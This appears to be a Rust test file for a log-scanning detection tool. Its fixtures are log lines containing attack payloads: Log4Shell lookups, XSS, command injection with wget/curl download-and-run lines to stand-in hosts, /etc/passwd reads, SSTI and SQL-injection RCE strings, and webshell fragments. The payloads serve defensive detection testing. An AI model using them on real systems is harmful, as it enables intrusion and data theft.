    assert!(b["timeline"].as_array().unwrap().iter().any(|e| e["kind"] == "log-hit"));
}

#[test]
fn logs_command_text_json_and_user_rules() {
    let dir = tempfile::tempdir().unwrap();
    write_files(
        dir.path(),
        &[
            ("app.log", b"2026-11-27 14:00:00,123 ERROR x - user-agent ${jndi:ldap://a.example/x} \x1b[31m\n2026-11-27 14:00:01,000 INFO ACME-BACKDOOR-7 beacon\n"),
            (
                "my.rules",
                b"# a rule of our own\n[rule]\nid = acme.backdoor\ntitle = ACME backdoor beacon\ncategory = command-and-control\nseverity = high\nattack = T1071\ncase = sensitive\nliteral = ACME-BACKDOOR-\nconfirm = regex:ACME-BACKDOOR-\\d+\n",
            ),
        ],
    );
    let log = dir.path().join("app.log");
    let rules = dir.path().join("my.rules");
    let out = run(&["logs", log.to_str().unwrap(), "--rules", rules.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("Log4Shell JNDI lookup") && text.contains("ACME backdoor beacon"), "{text}");
    assert!(!text.contains('\x1b'), "attacker escape sequences must be neutralised");
    assert_eq!(out.status.code(), Some(1));
    let (v, _) = run_json(&["logs", log.to_str().unwrap()]);
    let h = &v["bundles"][0]["log_hits"][0];
    assert_eq!(h["rule"], "log4j.jndi-lookup");
    assert_eq!(h["locator"]["line"], 1);
    assert_eq!(h["locator"]["offset"], 0);
    assert_eq!(h["time"], "2026-11-27T14:00:00.123000000Z");
    assert_eq!(h["jndi"]["scheme"], "ldap");
    assert_eq!(h["attack"], "T1190");
    assert!(h["iocs"].as_array().unwrap().iter().any(|i| i == "domain:a.example"));
}

#[test]
fn web_hits_carry_the_parsed_request_and_validate_against_the_schema() {
    let dir = tempfile::tempdir().unwrap();
    write_files(
        dir.path(),
        &[(
            "access.log",
            b"192.0.2.10 - - [27/Nov/2026:14:00:00 +0000] \"GET /index.html HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n\
203.0.113.66 - - [27/Nov/2026:14:00:01 +0000] \"GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D HTTP/1.1\" 404 153 \"http://ref.example/\" \"curl/8.4.0\"\n",
        )],
    );
    let (v, _) = run_json(&["logs", dir.path().join("access.log").to_str().unwrap()]);
    crate::util::validate_against_schema(&v);
    let h = &v["bundles"][0]["log_hits"][0];
    assert_eq!(h["rule"], "log4j.jndi-lookup");
    let r = &h["http"];
    assert_eq!(r["client"], "203.0.113.66");
    assert_eq!(r["method"], "GET");
    assert_eq!(r["path"], "/");
    assert_eq!(r["query"], "x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D");
    assert_eq!(r["status"], 404);
    assert_eq!(r["bytes"], 153);
    assert_eq!(r["referer"], "http://ref.example/");
    assert_eq!(r["user_agent"], "curl/8.4.0");
    assert!(r.get("host").is_none(), "absent parts are left out: {r}");
}

#[test]
fn rules_list_and_check() {
    let out = run(&["rules", "list"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("log4j.jndi-lookup") && text.contains("T1190"), "{text}");
    let dir = tempfile::tempdir().unwrap();
    write_files(
        dir.path(),
        &[
            ("bad.rules", b"[rule]\nid = x\ntitle = t\ncategory = c\nseverity = severe\nliteral = a\nconfirm = regex:([\n"),
            ("dup.rules", b"[rule]\nid = log4j.jndi-lookup\ntitle = t\ncategory = c\nseverity = low\nliteral = a\n"),
            ("good.rules", b"[rule]\nid = mine\ntitle = t\ncategory = c\nseverity = low\nliteral = a\n"),
        ],
    );
    let bad = run(&["rules", "check", dir.path().join("bad.rules").to_str().unwrap()]);
    let err = String::from_utf8_lossy(&bad.stderr);
    assert_eq!(bad.status.code(), Some(64));
    assert!(
        err.contains("bad.rules:5: unknown severity") && err.contains("bad.rules:7: invalid regex"),
        "{err}"
    );
    let dup = run(&["rules", "check", dir.path().join("dup.rules").to_str().unwrap()]);
    assert_eq!(dup.status.code(), Some(64));
    assert!(String::from_utf8_lossy(&dup.stderr).contains("clashes with a built-in rule"));
    let good = run(&["rules", "check", dir.path().join("good.rules").to_str().unwrap()]);
    assert_eq!(good.status.code(), Some(0));
}

#[test]
fn rules_cost_counts_what_gets_past_the_prefilter() {
    let dir = tempfile::tempdir().unwrap();
    let benign =
        "10.0.0.1 - - [27/Nov/2026:14:00:00 +0000] \"GET /index.html HTTP/1.1\" 200 512 \"-\" \"curl/8.0\"\n";
    let attack = "10.9.8.7 - - [27/Nov/2026:14:00:01 +0000] \"GET /?x=${jndi:ldap://cb.example/a} HTTP/1.1\" 200 1 \"-\" \"-\"\n";
    let mut plain = benign.repeat(2000);
    plain.push_str(attack);
    plain.push_str(&benign.repeat(2000));
    // The same log as a json-file log, gzipped.
    let json: String = plain
        .lines()
        .map(|l| {
            format!(
                "{{\"log\":\"{}\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:00Z\"}}\n",
                l.replace('"', "\\\"")
            )
        })
        .collect();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut gz, json.as_bytes()).unwrap();
    write_files(
        dir.path(),
        &[("access.log", plain.as_bytes()), ("c-json.log.gz", &gz.finish().unwrap()), ("empty.log", b"")],
    );
    let p = |n: &str| dir.path().join(n).to_str().unwrap().to_string();
    let missing = p("missing.log");
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("link.log")).unwrap();
    let d = dir.path().to_str().unwrap();
    let out = run(&[
        "rules",
        "cost",
        &p("access.log"),
        &p("c-json.log.gz"),
        &p("empty.log"),
        &missing,
        &p("link.log"),
        d,
    ]);
    let text = String::from_utf8_lossy(&out.stdout);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{text}{err}");
    assert!(err.contains("missing.log: cannot read"), "{err}");
    // A link (here to an endless device) is not followed, a directory not read.
    assert!(err.contains("link.log: cannot read: not a regular file"), "{err}");
    assert!(err.contains(&format!("{d}: cannot read: not a regular file")), "{err}");
    let rows: Vec<Vec<&str>> = text.lines().skip(1).map(|l| l.split_whitespace().collect()).collect();
    assert_eq!(rows.len(), 3, "{text}");
    // framing, MiB, prefix/MiB, windows/MiB, candidates/MiB, hits, file
    let num = |r: &[&str], i: usize| r[i].parse::<f64>().unwrap();
    for (row, framing, name) in [(&rows[0], "text", "access.log"), (&rows[1], "json-file", "c-json.log.gz")] {
        assert_eq!(row[0], framing, "{text}");
        assert!(row[6].ends_with(name), "{text}");
        // One candidate record in the whole log: the attack line (every window hit that is not
        // a candidate is the prefilter's false alarm, and there are few of those).
        let mib = num(row, 1);
        let candidates = (num(row, 4) * mib).round();
        assert!(candidates == 1.0 || (framing == "json-file" && candidates == 2.0), "{text}");
        assert!(num(row, 3) >= num(row, 4) && num(row, 3) * mib < 50.0, "{text}");
        assert!(num(row, 2) >= num(row, 3), "{text}");
        assert!(num(row, 5) >= 1.0, "{text}");
    }
    assert_eq!(&rows[2][..6], ["text", "0.00", "0.0", "0.0", "0.0", "0"], "{text}");
}

#[test]
fn rules_cost_names_the_windows_a_log_checks_most() {
    // Every line holds `getruntime` (a literal of the built-in rules) twice: its window's
    // prefix is checked at each, and the literal is named beside it; a gzip log is read
    // through, a link is not.
    let dir = tempfile::tempdir().unwrap();
    let text = "GET /a?q=getruntime HTTP/1.1 getruntime\n".repeat(500);
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut gz, text.as_bytes()).unwrap();
    write_files(dir.path(), &[("a.log", text.as_bytes()), ("b.log.gz", &gz.finish().unwrap())]);
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("link.log")).unwrap();
    let p = |n: &str| dir.path().join(n).to_str().unwrap().to_string();
    let out = run(&["rules", "cost", "--windows", "3", &p("a.log"), &p("b.log.gz"), &p("link.log")]);
    let text_out = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(2), "{text_out}");
    for name in ["a.log", "b.log.gz"] {
        let section =
            text_out.split(&format!("window prefixes checked most in {}:", p(name))).nth(1).expect(name);
        let first = section.lines().nth(2).unwrap_or_default();
        let cols: Vec<&str> = first.split_whitespace().collect();
        assert!(cols.len() >= 4 && cols[3..].join(" ").contains("getruntime"), "{text_out}");
        // Twice a line, 40 bytes a line: about 52,000 checks per MiB, each a window.
        let checks: f64 = cols[1].parse().unwrap();
        assert!((50_000.0..55_000.0).contains(&checks) && cols[1] == cols[2], "{text_out}");
    }
    assert!(!text_out.contains("link.log:"), "{text_out}");
}

#[test]
fn bundle_without_logs_gives_empty_section() {
    let dir = tempfile::tempdir().unwrap();
    write_files(dir.path(), &[("notes.txt", b"nothing here\n")]);
    let bundle = discover(dir.path());
    let arts: Vec<_> = bundle.artifacts.iter().collect();
    let s = scan_logs(&arts, &engine());
    assert!(s.log_hits.is_empty() && s.iocs.is_empty());
}

#[test]
fn hostile_input_gives_diagnostics_not_panics() {
    let dir = tempfile::tempdir().unwrap();
    let log = b"198.51.100.4 - - [27/Nov/2026:13:00:00 +0000] \"GET /?x=${jndi:ldap://cb.example/x} HTTP/1.1\" 200 1\n";
    let mut big = vec![b'x'; 300_000];
    big[..log.len()].copy_from_slice(log);
    let tar = tar_with(&[("var/log/app.log", &big)]);
    // Cut inside the log member: what was read before the cut is still scanned.
    let cut = &tar[..200_000];
    let garbage: Vec<u8> = (0..100_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    write_files(dir.path(), &[("export.tar", cut), ("noise.log", &garbage), ("bad-json.log", b"{\"log\":\"x\" broken\n{\"log\":\"${jndi:dns://q.example}\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:00Z\"}\n")]);
    let (v, code) = run_json(&["scan", dir.path().to_str().unwrap()]);
    let b = &v["bundles"][0];
    let diags = b["diagnostics"].as_array().unwrap();
    assert!(
        diags.iter().any(|d| d["level"] == "error" && d["locator"]["artifact"] == "export.tar"),
        "{diags:#?}"
    );
    assert_eq!(code & 2, 2, "unreadable evidence sets exit bit 1");
    let hits = b["log_hits"].as_array().unwrap();
    assert!(hits.iter().any(|h| h["locator"]["members"][0] == "var/log/app.log"), "{hits:#?}");
    assert!(hits.iter().any(|h| h["jndi"]["host"] == "q.example"), "{hits:#?}");
}

// ------------------------------------------------------------------ web attack classes

fn access(target: &str, ua: &str) -> String {
    format!(r#"203.0.113.50 - - [27/Nov/2026:14:00:00 +0000] "GET {target} HTTP/1.1" 404 153 "-" "{ua}""#)
}

#[test]
fn xss_family() {
    let ua = "Mozilla/5.0";
    table(
        "web.xss",
        &[
            (&access("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ua), "web.xss"),
            (&access("/search?q=%253Csvg%2Fonload%3Dalert%281%29%253E", ua), "web.xss"),
            (&access("/?q=\"><img src=x onerror=prompt(document.domain)>", ua), "web.xss"),
            (&access("/?q=<IMG SRC=JaVaScRiPt:alert('XSS')>", ua), "web.xss"),
            (&access("/?q=%3Cbody%20onload%3Dconfirm%601%60%3E", ua), "web.xss"),
            (&access("/?q=&#x3C;script&#x3E;alert(String.fromCharCode(88,83,83))", ua), "web.xss"),
            (&access("/?next=javascript:alert(1)//", ua), "web.xss"),
            (&access("/?q=<iframe src=\"http://evil.example/x\"></iframe>", ua), "web.xss"),
            (&access("/?q=<details open ontoggle=alert(1)>", ua), "web.xss"),
            (&access("/?a=<br", ua), "web.xss"),
            (&access("/", "<script>alert(1)</script>"), "web.xss"),
            ("<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>", "web.xss"),
            ("<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">", "web.xss"),
        ],
        &[
            &access("/static/js/javascript-guide.html", ua),
            &access("/scripts/app.js?v=3", ua),
            &access("/blog/alerting-prompt-design?confirm=yes", ua),
            "2026-11-27 INFO rendered template <div class=\"x\"> in 3ms",
            "<!DOCTYPE html><html><body>",
            "INFO onload handler registered for module x",
        ],
    );
}

#[test]
fn command_injection_family() {
    let ua = "Mozilla/5.0";
    table(
        "web.cmd-injection",
        &[
            (&access("/ping.php?ip=127.0.0.1;id", ua), "web.cmd-injection"),
            (&access("/ping.php?ip=127.0.0.1%3Bcat%20/etc/passwd", ua), "web.cmd-injection"),
            (&access("/ping?host=x|whoami", ua), "web.cmd-injection"),
            (&access("/ping?host=x%7C%7Cuname%20-a", ua), "web.cmd-injection"),
            (&access("/x?host=`id`", ua), "web.cmd-injection"),
            (&access("/x?host=$(whoami)", ua), "web.cmd-injection"),
            (&access("/x?host=a&&sleep+5", ua), "web.cmd-injection"),
            (&access("/x?host=a%0aid", ua), "web.cmd-injection"),
            (&access("/x?c=;cat${IFS}/etc/passwd", ua), "web.cmd-injection"),
            (&access("/x?c=;cat$IFS$9/etc/passwd", ua), "web.cmd-injection"),
            (&access("/cgi-bin/x?a=1;wget+http://198.51.100.9/x.sh", ua), "web.cmd-injection"),
            ("username=admin';ping -c 3 198.51.100.2;'", "web.cmd-injection"),
            // Scanner probes separated by a single `&` (Acunetix, Netsparker), in the path and
            // in the query, encoded and not.
            (
                &access(
                    "/%26nslookup%20hitu4x8b2q.bxss.me%26'%5c\"`0%26nslookup%20hitu4x8b2q.bxss.me%26`'",
                    ua,
                ),
                "web.cmd-injection",
            ),
            (&access("/?C=\"%26ping%20-c%2025%20127.0.0.1%20%26\"", ua), "web.cmd-injection"),
            (&access("/index.php?page='&ping -c 25 127.0.0.1 &'", ua), "web.cmd-injection"),
            (&access("/?C=&ping -c 25 127.0.0.1 &", ua), "web.cmd-injection"),
            (&access("/x?host=a&sleep 10&", ua), "web.cmd-injection"),
        ],
        &[
            &access("/?a=1&id=5&sleep=10&ping=yes&echo=x", ua),
            &access("/search?q=tom&jerry&page=2", ua),
            &access("/cal?view=month&cat=events&sort=date", ua),
            &access("/", "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119"),
            &access("/", "Mozilla/5.0 (Linux; U; Android 4.1.2; id-id; GT-S6310)"),
            &access("/a;jsessionid=0123?x=1", ua),
            &access("/api?fields=id|name|email", ua),
            "2026-11-27 12:00:00 cron: cd /app && ls",
            "build step: make clean; make install",
        ],
    );
}

#[test]
fn inclusion_ssi_xxe_ssti_family() {
    let ua = "Mozilla/5.0";
    table(
        "web",
        &[
            (&access("/index.php?page=php://filter/convert.base64-encode/resource=index", ua), "web.lfi-wrapper"),
            (&access("/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", ua), "web.lfi-wrapper"),
            (&access("/index.php?page=expect://id", ua), "web.lfi-wrapper"),
            (&access("/view?file=file:///etc/passwd", ua), "web.lfi-wrapper"),
            (&access("/index.php?page=http://evil.example/shell.txt?", ua), "web.rfi"),
            (&access("/main.php?include=http://198.51.100.3/c99.txt", ua), "web.rfi"),
            (&access("/x.php?file=http%3A%2F%2Fevil.example%2Fs.txt%00", ua), "web.rfi"),
            (&access("/x.shtml?name=<!--#exec cmd=\"id\" -->", ua), "web.ssi"),
            (&access("/x?q=%3C%21--%23include%20virtual%3D%22/etc/passwd%22--%3E", ua), "web.ssi"),
            ("<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>", "web.xxe"),
            ("<!DOCTYPE r [<!ENTITY % ext SYSTEM \"http://evil.example/x.dtd\"> %ext;]>", "web.xxe"),
            (&access("/x?name=%7B%7B7*7%7D%7D", ua), "web.ssti"),
            (&access("/x?name=${7*7}", ua), "web.ssti"),
            (&access("/x?name={{config.__class__.__init__.__globals__['os'].popen('id').read()}}", ua), "web.ssti"),
            (&access("/x?name=<%25%3D+7*7+%25>", ua), "web.ssti"),
            ("<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ex(\"id\")}", "web.ssti"),
            ("#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))", "web.ssti"),
            ("__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "web.ssti"),
            ("{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}", "web.ssti"),
        ],
        &[
            &access("/login?next=https://example.com/home", ua),
            &access("/r?url=http://partner.example/page.html", ua),
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
            "INFO rendering {{ user.name }} for ${catalina.base}",
            "price: {{ 7 }} items, total ${total}",
            "<!-- comment --> no includes here",
        ],
    );
}

#[test]
fn shellshock_crlf_traversal_family() {
    table(
        "web",
        &[
            (&access("/cgi-bin/status", "() { :;}; /bin/bash -c \"cat /etc/passwd\""), "web.shellshock"),
            (&access("/cgi-bin/test.cgi", "() { ignored;}; echo Content-Type: text/plain ; echo ; /usr/bin/id"), "web.shellshock"),
            (&access("/cgi-bin/x?a=%28%29%20%7B%20%3A%3B%7D%3B%20ping%20x", "curl"), "web.shellshock"),
            ("[Wed Nov 27 14:00:00 2026] [cgi:error] [pid 9] [client 198.51.100.1:4000] AH01215: () { :; }; /bin/bash -c 'wget x': /usr/lib/cgi-bin/t.cgi", "web.shellshock"),
            ("Referer: () { _; } >_[$($())] { id; }", "web.shellshock"),
            (&access("/%0d%0aSet-Cookie:crlf=injection", "curl"), "web.crlf-injection"),
            (&access("/x?r=%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection", "curl"), "web.crlf-injection"),
            (&access("/redirect?u=%250d%250aLocation:%20http://evil.example", "curl"), "web.crlf-injection"),
            (&access("/x%0D%0A%20Set-Cookie:x=1", "curl"), "web.crlf-injection"),
            (&access("/x?u=%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E", "curl"), "web.crlf-injection"),
            (&access("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "curl"), "web.path-traversal.encoded"),
            (&access("/..%c0%af..%c0%afetc/passwd", "curl"), "web.path-traversal.encoded"),
            (&access("/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css", "curl"), "web.path-traversal.encoded"),
            (&access("/app/..;/manager/html", "curl"), "web.path-traversal.encoded"),
            (&access("/a/.././b/.././etc/hosts", "curl"), "web.path-traversal.encoded"),
            (&access("/..%5c..%5cwindows/win.ini", "curl"), "web.path-traversal.encoded"),
            (&access("/%uff0e%uff0e/%uff0e%uff0e/etc/passwd", "curl"), "web.path-traversal.encoded"),
        ],
        &[
            &access("/function()%20{return%201}", "curl"),
            "js: var f = function () { return 1; };",
            &access("/search?q=line1%0aline2", "curl"),
            &access("/docs/../index.html", "curl"),
            &access("/static/app.min.js", "curl"),
        ],
    );
}

#[test]
fn sqli_dbms_phpunit_cve_family() {
    let ua = "Mozilla/5.0";
    table(
        "web",
        &[
            (&access("/item?id=1;EXEC%20master..xp_cmdshell%20'whoami'--", ua), "web.sqli.dbms"),
            (&access("/item?id=1%20AND%201=CAST(0x5f21403264696c656d6d61%20AS%20VARCHAR(4000))--", ua), "web.sqli.dbms"),
            (&access("/item?id=1';WAITFOR%20DELAY%20'0:0:5'--", ua), "web.sqli.dbms"),
            (&access("/item?id=1%20AND%201=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)", ua), "web.sqli.dbms"),
            (&access("/item?id=1%20AND%20UTL_INADDR.GET_HOST_NAME((SELECT%20user%20FROM%20dual))", ua), "web.sqli.dbms"),
            (&access("/item?id=1;SELECT%20PG_SLEEP(5)--", ua), "web.sqli.dbms"),
            (&access("/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--", ua), "web.sqli.dbms"),
            (&access("/foo?a=%2cnull%2cnull%2cnull", ua), "web.sqli.dbms"),
            (&access("/foo?a=1%20and%20sleep(5)", ua), "web.sqli.dbms"),
            ("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", "web.phpunit.eval-stdin"),
            (&access("/Telerik.Web.UI.WebResource.axd?type=rau", ua), "web.cve.telerik"),
            (&access("/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=`id`", ua), "web.cve.cacti"),
            ("POST /ssl-vpn/hipreport.esp HTTP/1.1 Cookie: SESSID=/../../../var/appweb/sslvpndocs/global-protect/portal/images/x.txt", "web.cve.panos"),
            (&access("/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css", ua), "web.cve.panos"),
            (&access("/owncloud/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css", ua), "web.cve.owncloud"),
            (&access("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", ua), "web.cve.fortios"),
            (&access("/setup/setupadministrator.action", ua), "web.cve.confluence"),
            (&access("/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false", ua), "web.cve.confluence"),
            (&access("/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22freemarker%22%7d", ua), "web.cve.vmware"),
            (&access("/vpn/../vpns/cfg/smb.conf", ua), "web.cve.citrix"),
            (&access("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", ua), "web.cve.f5-bigip"),
            (&access("/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example", ua), "web.cve.exchange"),
            (&access("/cgi-bin/.%2e/%2e%2e/%2e%2e/etc/passwd", ua), "web.cve.apache-traversal"),
            (&access("/etc/passwd%3f", ua), "web.cve.apache-traversal"),
            (&access("/vendor/htmlawed/htmlawed/htmLawedTest.php", ua), "web.cve.misc"),
            (&access("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*", ua), "web.cve.misc"),
        ],
        &[
            &access("/item?id=42&sort=name", ua),
            &access("/blog/selecting-a-database-union-vs-join", ua),
            &access("/api/v2/cmdb/firewall/policy", ua),
            &access("/global-protect/login.esp", ua),
            &access("/phpunit/docs/index.html", ua),
            "SELECT id, name FROM users WHERE id = 1",
        ],
    );
}

#[test]
fn webshells_are_attributed_to_their_family() {
    let ua = "Mozilla/5.0";
    table(
        "web.webshell",
        &[
            (&access("/uploads/c99.php", ua), "web.webshell.probe"),
            (&access("/Worse_Linux_Shell.php", ua), "web.webshell.probe"),
            (&access("/wp-content/plugins/x/wso.php?a=1", ua), "web.webshell.probe"),
            (&access("/uploads/shell.jsp?cmd=whoami", ua), "web.webshell.cmd-param"),
            (&access("/x.php?cmd=cat%20/etc/passwd", ua), "web.webshell.cmd-param"),
            ("<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.getMethod().equals(\"POST\")){String k=\"e45e329feb5d925b\";session.putValue(\"u\",k);", "web.webshell.behinder"),
            ("<?php @error_reporting(0); session_start(); $key=\"e45e329feb5d925b\"; $_SESSION['k']=$key;", "web.webshell.behinder"),
            ("<%! String xc=\"3c6e0b8a9c15224a\"; String pass=\"pass\"; String md5=md5(pass+xc); class X extends ClassLoader{public X(ClassLoader z){super(z);}public Class Q(byte[] cb){", "web.webshell.godzilla"),
            ("<?php @session_start(); @set_time_limit(0); $pass='pass'; $payloadName='payload'; $key='3c6e0b8a9c15224a';", "web.webshell.godzilla"),
            (&access("/x.php", "antSword/v2.1"), "web.webshell.antsword"),
            ("POST /x.php _0x2bd6a1=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwgIjAiKTs", "web.webshell.antsword"),
            ("POST /x.php z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpOw==", "web.webshell.chopper"),
        ],
        &[
            // ZoneMinder polls its streams with `command=99`.
            &access("/zm/index.php?view=request&request=stream&connkey=785750&auth=88ac81&command=99", ua),
            &access("/index.php?command=status", ua),
            &access("/shells/bash-guide.html", ua),
            &access("/css/shell.css", ua),
            "Set-Cookie: rememberMe=deleteMe; Path=/; Max-Age=0",
        ],
    );
    // `rememberMe=deleteMe` says Shiro is there; it is neither an exploit nor Behinder.
    let e = engine();
    let ids = rule_ids(&e, "HTTP/1.1 200 OK Set-Cookie: rememberMe=deleteMe; Path=/");
    assert_eq!(ids, vec!["web.shiro.fingerprint"], "{ids:?}");
}

#[test]
fn download_then_run_without_a_pipe() {
    table(
        "shell.download",
        &[
            ("cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh", "shell.download-run"),
            ("wget -q http://198.51.100.7/bot -O /tmp/bot && /tmp/bot", "shell.download-run"),
            ("curl -s -o /dev/shm/k http://evil.example/k;./k", "shell.download-run"),
            ("busybox wget http://198.51.100.7/m -O- > /tmp/m; sh /tmp/m", "shell.download-run"),
            (&access("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/", "-"), "shell.download-run"),
        ],
        &[
            "wget http://mirror.example/pkg.tar.gz; tar xzf pkg.tar.gz",
            "curl -fsSL https://example.com/health && echo ok",
            "INFO downloaded config with curl; restarting service",
        ],
    );
}

#[test]
fn query_plus_is_a_space_for_indicators() {
    // The Mozi downloader line: the IOC is the URL, not `...Mozi.m+-O+/tmp/netgear`.
    let dir = tempfile::tempdir().unwrap();
    write_files(
        dir.path(),
        &[(
            "access.log",
            br#"120.86.253.142 - - [26/Apr/2023:05:11:25 +0000] "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0" 404 153 "-" "-"
"#,
        )],
    );
    let (v, _) = run_json(&["logs", dir.path().join("access.log").to_str().unwrap()]);
    let iocs: Vec<String> = v["bundles"][0]["iocs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| format!("{}:{}", i["type"].as_str().unwrap(), i["value"].as_str().unwrap()))
        .collect();
    assert!(iocs.contains(&"url:http://192.168.1.1:8088/Mozi.m".to_string()), "{iocs:?}");
    assert!(!iocs.iter().any(|i| i.contains("Mozi.m+")), "{iocs:?}");
    let rules: Vec<&str> =
        v["bundles"][0]["log_hits"].as_array().unwrap().iter().map(|h| h["rule"].as_str().unwrap()).collect();
    assert!(rules.contains(&"shell.download-run"), "{rules:?}");
}

#[test]
fn one_scanner_finding_per_scanner_and_address_with_span_and_count() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = String::new();
    // More requests than hits kept per log: all are counted.
    for i in 0..2_500 {
        let s = i % 60;
        log.push_str(&format!(
            "198.51.100.20 - - [27/Nov/2026:14:{:02}:{s:02} +0000] \"GET /cgi-bin/test{i}.cgi HTTP/1.1\" 404 153 \"-\" \"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:{i:06})\"\n",
            i / 60 % 60
        ));
    }
    log.push_str("203.0.113.9 - - [27/Nov/2026:15:00:00 +0000] \"GET /?id=1 HTTP/1.1\" 200 10 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"\n");
    log.push_str("203.0.113.9 - - [27/Nov/2026:15:00:09 +0000] \"GET /?id=2 HTTP/1.1\" 200 10 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"\n");
    log.push_str(
        "198.51.100.21 - - [27/Nov/2026:16:00:00 +0000] \"GET / HTTP/1.1\" 200 10 \"-\" \"Nikto\"\n",
    );
    log.push_str("192.0.2.1 - - [27/Nov/2026:16:00:01 +0000] \"GET /?u=http://x1.oast.fun/ HTTP/1.1\" 200 10 \"-\" \"Mozilla/5.0\"\n");
    write_files(dir.path(), &[("access.log", log.as_bytes())]);
    let (v, _) = run_json(&["logs", dir.path().join("access.log").to_str().unwrap()]);
    let findings = v["bundles"][0]["findings"].as_array().unwrap();
    let scanner: Vec<(&str, &str)> = findings
        .iter()
        .filter(|f| f["rule"].as_str().unwrap().starts_with("log.scanner."))
        .map(|f| (f["rule"].as_str().unwrap(), f["summary"].as_str().unwrap()))
        .collect();
    assert_eq!(scanner.len(), 4, "{scanner:#?}");
    let nikto: Vec<&(&str, &str)> = scanner.iter().filter(|(r, _)| *r == "log.scanner.nikto").collect();
    assert_eq!(nikto.len(), 2, "{nikto:?}");
    assert!(
        nikto
            .iter()
            .any(|(_, s)| s.starts_with("2500 request(s) from 198.51.100.20 between 2026-11-27T14:00:00")),
        "{nikto:?}"
    );
    assert!(nikto.iter().any(|(_, s)| s.starts_with("1 request(s) from 198.51.100.21 at")), "{nikto:?}");
    assert!(scanner.iter().any(|(r, s)| *r == "log.scanner.sqlmap"
        && s.starts_with(
            "2 request(s) from 203.0.113.9 between 2026-11-27T15:00:00.000000000Z and 2026-11-27T15:00:09"
        )));
    assert!(scanner.iter().any(|(r, _)| *r == "log.scanner.oob"), "{scanner:?}");
    // No per-log finding for scanner rules besides these.
    assert!(!findings.iter().any(|f| f["rule"] == "log.web.scanner"));
}

#[test]
fn remaining_log4j_classes() {
    table(
        "log4j",
        &[
            ("GET /?x=${lower:j}${lower:n}${lower:d}${lower:i}:ldap://o8.example/a", "log4j.jndi-assembled"),
            ("X-Api-Version: j${::-n}di:rmi://o9.example/a", "log4j.jndi-assembled"),
            ("User-Agent: ${${::-${::-$${::-j}}}}", "log4j.recursive-lookup"),
            ("ua=${ctx:loginId${ctx:loginId}}", "log4j.recursive-lookup"),
            (r"a \44{jndi:ldap://o1.example/a}", "log4j.jndi-lookup"),
            (r"a \44\173jndi:ldap://o2.example/a}", "log4j.jndi-lookup"),
